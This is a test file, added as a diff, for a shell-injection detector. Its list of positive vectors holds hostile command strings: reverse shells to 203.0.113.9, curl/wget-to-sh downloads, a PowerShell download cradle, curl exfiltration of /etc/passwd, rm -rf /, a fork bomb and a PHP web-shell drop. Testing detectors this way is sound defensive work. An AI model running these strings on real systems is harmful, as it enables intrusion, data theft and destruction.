@@ -1,0 +1,355 @@
+import t from 'tap';
+import { detectShellInjection } from '../../src/detectors/shell-injection';
+
+// Test vectors written for this project (not copied from any payload corpus).
+
+/** Each must be detected at confidence `high` with a `shell.` rule. */
+const positives: string[] = [
+  "; id",
+  "a;id",
+  "x && whoami",
+  "foo || uname -a",
+  "q | cat /etc/shadow",
+  "8.8.8.8; wget http://203.0.113.9/x.sh -O /tmp/x.sh",
+  "host & ping -c 4 198.51.100.7 &",
+  "abc\\nuname -a",
+  "$(id)",
+  "name=$(whoami)",
+  "`uname -r`",
+  "report-`date`.txt",
+  "'; id; '",
+  "\"; id; \"",
+  "' && curl http://203.0.113.9 | sh #",
+  "\" | nc 203.0.113.9 4444 -e /bin/bash \"",
+  "cat${IFS}/etc/passwd",
+  "cat$IFS/etc/passwd",
+  "{cat,/etc/passwd}",
+  ";{ls,-la,/}",
+  "; echo pwned > /var/www/html/p.php",
+  "< /etc/passwd",
+  "x; bash -i >& /dev/tcp/203.0.113.9/9001 0>&1",
+  "/???/c?t /???/p??swd",
+  ";/b??/w?oami",
+  "c'a't /etc/hosts",
+  ";c\\at /etc/hosts",
+  "who$@ami",
+  "; un$()ame -a",
+  "diff <(ls /etc) <(ls /tmp)",
+  "x >(nc 203.0.113.9 80)",
+  "who\\\nami",
+  "& type C:\\Windows\\win.ini",
+  "| dir C:\\",
+  "& %COMSPEC% /c whoami",
+  "& cmd /c ver",
+  "& cmd.exe /k ipconfig",
+  "&w^h^o^a^m^i",
+  "; powershell -enc SQBFAFgA",
+  "; powershell -nop -w hidden -c iex(iwr http://203.0.113.9/a)",
+  "; IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')",
+  "; Invoke-Expression $payload",
+  "$(Invoke-WebRequest http://203.0.113.9)",
+  "; sleep 10",
+  "| timeout /t 10",
+  "&& python -c 'import os;os.system(\"id\")'",
+  "; perl -e 'exec \"/bin/sh\"'",
+  "x | base64 -d | bash",
+  "; rm -rf / --no-preserve-root",
+  "; chmod +x /tmp/a && /tmp/a",
+  "; /usr/bin/env bash",
+  "1 && /bin/busybox telnetd",
+  "a=who;b=ami;$a$b",
+  "x=uname;$x -a",
+  "() { :; }; /bin/id",
+  "for /f %i in ('whoami') do echo %i",
+  "if exist C:\\boot.ini type C:\\boot.ini",
+  "system('cat /etc/group')",
+  "passthru(\"uname -a\")",
+  "child_process.execSync('ls -la')",
+  "<!--#exec cmd=\"id\" -->",
+  "foo\r\nRCPT TO:<victim@example.com>",
+  "x\r\nA042 LOGIN admin secret",
+  "${@system(id)}",
+  ";$u cat /etc/hosts",
+  "& net user attacker P4ss! /add",
+  "| reg query HKLM\\Software",
+  "; nslookup x.attacker.example",
+  "|| curl -d @/etc/passwd http://203.0.113.9",
+  "; ls",
+  "foo; ls -la /home",
+  "$(printf '\\x69\\x64')",
+  "x;$'\\x69\\x64'",
+  "; sh",
+  "; echo $(whoami)",
+  "pwd|",
+  "; w\"h\"o\"am\"i",
+  "\n id",
+  "abc\\nwhoami",
+  "x\n\\nuname -a",
+  "cat /etc/passwd",
+  "uname -a",
+  "nc -e /bin/sh 203.0.113.9 9001",
+  "ls -la /",
+  "powershell -ep bypass -f x.ps1",
+  "echo '<?php system($_GET[1]); ?>' > s.php",
+  "x;${SHELL} -c id",
+  "; time whoami",
+  "; nohup wget http://203.0.113.9/b &",
+  "a);id",
+  "\";uname;\"",
+  "{${system(id)}}",
+  "x|$u whoami",
+  "a\r\nEHLO attacker.example",
+  "z\r\nDELE 3",
+  "<id",
+  "f(){ f|f& };f",
+  "$(($()))",
+  "p``wd",
+  "' || sleep 9 #",
+  "| for %v in (a) do echo %v",
+  "IF /I NOT EXIST C:\\x echo y",
+  "1;cd /tmp;wget http://203.0.113.9/x",
+  "x;/usr/bin/whoami",
+  "%SYSTEMROOT%\\System32\\cmd.exe /c dir",
+  "& C:\\Windows\\System32\\whoami.exe",
+  "$[]",
+  "`id`",
+  "'`id`'",
+];
+
+/** Each must not be detected at `high` (prose, markup, data, documentation). */
+const negatives: string[] = [
+  "salt; pepper",
+  "Tom & Jerry",
+  "A | B testing",
+  "rock & roll",
+  "price > $5",
+  "see (cat) pics",
+  "cats && dogs",
+  "I like cats; dogs too",
+  "O'Brien",
+  "it's 5 o'clock",
+  "a < b and c > d",
+  "<3",
+  "select your size",
+  "drop me a line; or call",
+  "rm -rf is a dangerous command",
+  "../README.md",
+  "docs/readme.md",
+  "https://example.com/path?x=1",
+  "john.doe@example.com",
+  "{\"a\": 1, \"b\": [1,2]}",
+  "# Heading\n\n- item one\n- item two; with `code`",
+  "Use `ls -la` to list files, and `cat file` to print one.",
+  "José Müller",
+  "+1 (555) 010-0000",
+  "$5 & up",
+  "Sales & Marketing; Finance | HR",
+  "Q&A",
+  "AT&T",
+  "R&D; cat food",
+  "Go home; sleep well",
+  "I'm tired; sleep 8 hours tonight",
+  "Tom; cat",
+  "cat",
+  "whoami",
+  "id",
+  "echo",
+  "ls",
+  "ping",
+  "Type here",
+  "Name | Type | Description",
+  "| Name | Type | Description |",
+  "| `id` | string | The id |",
+  "a=1&b=2&id=3",
+  "?q=cat&sort=asc",
+  "foo(bar); baz(qux)",
+  "if (a && b) { return c || d; }",
+  "$(document).ready(function(){})",
+  "jQuery $('#id').hide()",
+  "C:\\Program Files\\App\\app.exe",
+  "C:\\Users\\me\\Documents\\notes.txt",
+  "/usr/bin/python",
+  "node index.js",
+  "npm install && npm test",
+  "git commit -m 'fix; update'",
+  "Total: $10 (tax incl.) | Ships in 2-3 days",
+  "Hello!\nHow are you?\nCall me at 555-0100",
+  "Question: what does `cat /etc/hosts` print?",
+  "The `time` command measures; `nice` lowers priority.",
+  "5 > 3 && 2 < 4",
+  "x = y | z",
+  "~/projects/foo",
+  "find the best price",
+  "Dear Sir,\r\nPlease find attached\r\nRegards",
+  "Meeting at 10am; bring snacks & drinks",
+  "a;b;c",
+  "1|2|3",
+  "key=value;other=thing",
+  "Mr. Smith & Sons, Ltd.",
+  "50% off | today only",
+  "^_^ ;)",
+  "~+",
+  "Ash & Misty",
+  "Ruby & Python",
+  "wget is a tool",
+  "who are you?",
+  "More info: see docs; type help for more",
+  "SELECT * FROM users WHERE id = 5; -- comment",
+  "Tom & Jerry & Spike",
+  "Who's there? Me; who else",
+  "I said: echo that back to me",
+  "Please type your name & press enter",
+  "Call me; maybe tomorrow",
+  "Find more | Search | Help",
+  "http://x.com/a;jsessionid=ABC123?x=1&y=2",
+  "C:\\Windows\\System32\\drivers\\etc\\hosts",
+  "cd ..",
+  "Price: $20 (was $30) & free shipping",
+  "R&B; Hip-Hop; Pop",
+  "fish & chips; peas",
+  "salt & pepper | oil",
+  "Ruby on Rails; Python & Django",
+  "python developer; 5 years",
+  "curl up with a book",
+  "Sort by: date | name | size",
+  "read more >",
+  "<b>bold</b> & <i>italic</i>",
+  "x > 0 ? a : b",
+  "Time: 10:30; Date: 2024-01-01",
+  "ping me at 5",
+  "Note: cat /etc/passwd is a classic example in tutorials",
+  "man page",
+  "test",
+  "true",
+  "Dear team,\nplease find the report attached.\nThanks,\nAnna",
+  "Line one\nls\nLine three",
+  "a|b|c|d",
+  "ID; Name; Email",
+  "id;name;email",
+  "Set up: npm install; npm start",
+  "The command `rm -rf /` is dangerous",
+  "See https://example.com/?a=1&b=$(x) for info",
+  "Kind regards; Dr. Who",
+  "Tom & cat",
+  "Mom & Dad; sister",
+  "Go to Settings | Privacy & Security",
+  "wget",
+  "10 < 20 > 5",
+  "a && b || c",
+  "The 'for' loop; if not defined, defaults apply",
+  "If not exist, create it",
+  "O'Brien; Smith",
+  "Rock & Roll Hall of Fame",
+  "Terms & Conditions | Privacy",
+  "Tom; Jerry; Spike",
+  "user@example.com; admin@example.com",
+  "jQuery: $('.item').hide(); $(this).show()",
+  "`npm test` runs the suite; `npm run lint` checks style",
+  "Cost is $5 > $3",
+  "Question (see above); answer below",
+  "Ping pong & table tennis",
+  "dir: ltr",
+  "Sleep well; see you tomorrow",
+  "Echo & the Bunnymen",
+  "Who | What | Where",
+  "cat",
+  "curl",
+  "a-b-c",
+  "item #5; item #6",
+  "email me :)",
+  "R&D",
+  "1 & 2",
+  "x||y",
+  "a&&b",
+  "```js\nconst x = 1;\n```",
+  "Test the ```.decorate()``` API",
+  "[`PATH`](https://example.com/docs)",
+  "<a title=\"Tom & Jerry\">x</a>",
+];
+
+t.test('shell injection vectors are detected at high confidence', async (t) => {
+  for (const v of positives) {
+    const d = detectShellInjection(v);
+    t.equal(d?.confidence, 'high', `high: ${JSON.stringify(v)} -> ${JSON.stringify(d)}`);
+    t.ok(d !== undefined && d.rule.startsWith('shell.'), `rule prefix: ${JSON.stringify(v)}`);
+  }
+});
+
+t.test('benign strings are not high', async (t) => {
+  for (const v of negatives) {
+    const d = detectShellInjection(v);
+    t.not(d?.confidence, 'high', `not high: ${JSON.stringify(v)} -> ${JSON.stringify(d)}`);
+  }
+});
+
+t.test('specific rules', async (t) => {
+  const rule = (v: string): string | undefined => detectShellInjection(v)?.rule;
+  t.equal(rule('cat${IFS}/etc/passwd'), 'shell.ifs');
+  t.equal(rule('{cat,/etc/passwd}'), 'shell.brace-expansion');
+  t.equal(rule("c'a't /etc/hosts"), 'shell.obfuscated-command');
+  t.equal(rule('/???/c?t /???/p??swd'), 'shell.glob-path');
+  t.equal(rule('() { :; }; /bin/id'), 'shell.shellshock');
+  t.equal(rule('x; bash -i >& /dev/tcp/203.0.113.9/9001 0>&1'), 'shell.redirection');
+  t.equal(rule('x | sh'), 'shell.pipe-to-shell');
+  t.equal(rule('& cmd /c ver'), 'shell.interpreter');
+  t.equal(rule('for /f %i in (\'whoami\') do echo %i'), 'shell.cmd-control');
+  t.equal(rule("system('cat /etc/group')"), 'shell.exec-call');
+  t.equal(rule('a=who;b=ami;$a$b'), 'shell.variable-command');
+  t.equal(rule('<!--#exec cmd="id" -->'), 'shell.ssi-exec');
+  t.equal(rule('x\r\nRCPT TO:<v@example.com>'), 'shell.mail-command');
+  t.equal(rule('f(){ f|f& };f'), 'shell.fork-bomb');
+  t.equal(rule('$(id)'), 'shell.substitution');
+  t.equal(rule('a;id'), 'shell.command-chain');
+});
+
+t.test('quote break-out is reported as such', async (t) => {
+  const d = detectShellInjection("'; id; '");
+  t.equal(d?.confidence, 'high');
+  t.match(d?.reason ?? '', /single quote/);
+});
+
+t.test('markdown code spans are shown, not blocked', async (t) => {
+  const d = detectShellInjection('Use `ls -la` to list files, and `cat file` to print one.');
+  t.equal(d?.confidence, 'medium');
+});
+
+t.test('reasons are one short sentence without echoing the input', async (t) => {
+  const long = '; cat /etc/' + 'x'.repeat(500);
+  const d = detectShellInjection(long);
+  t.equal(d?.confidence, 'high');
+  t.ok((d?.reason.length ?? 0) < 200, 'short reason');
+  t.notMatch(d?.reason ?? '', /x{40}/);
+});
+
+t.test('degenerate inputs never throw', async (t) => {
+  const odd = ['', 'a', ';', '$', '`', "'", '"', '\\', '$(', '${', '$[', '<(', '\ud800', '\udfff;id', '\u0000;\u0000', '$((', '))))', '}}'];
+  for (const v of odd) t.doesNotThrow(() => detectShellInjection(v), JSON.stringify(v));
+});
+
+t.test('adversarial 1 MB inputs return without throwing', async (t) => {
+  const MB = 1 << 20;
+  const big: Record<string, string> = {
+    parens: '('.repeat(MB),
+    closers: ')'.repeat(MB),
+    dollarParen: '$('.repeat(MB / 2),
+    backticks: '`'.repeat(MB),
+    singleQuotes: "'".repeat(MB),
+    doubleQuotes: '"'.repeat(MB),
+    lt: '<'.repeat(MB),
+    dotdot: '../'.repeat(MB / 3),
+    blanks: ' '.repeat(MB),
+    semicolons: ';'.repeat(MB),
+    braces: '${'.repeat(MB / 2),
+    attrs: '<a b="x">'.repeat(MB / 9),
+    newlines: '\r\nA001 x'.repeat(MB / 9),
+    backslashes: '\\'.repeat(MB),
+    prose: 'Tom & Jerry; salt | pepper '.repeat(MB / 27),
+    surrogates: '\ud800'.repeat(MB),
+    nul: '\u0000'.repeat(MB),
+  };
+  for (const [name, v] of Object.entries(big)) {
+    t.doesNotThrow(() => detectShellInjection(v), name);
+  }
+  const five = 'a;b '.repeat((5 * MB) / 4);
+  t.doesNotThrow(() => detectShellInjection(five), '5 MB');
+});
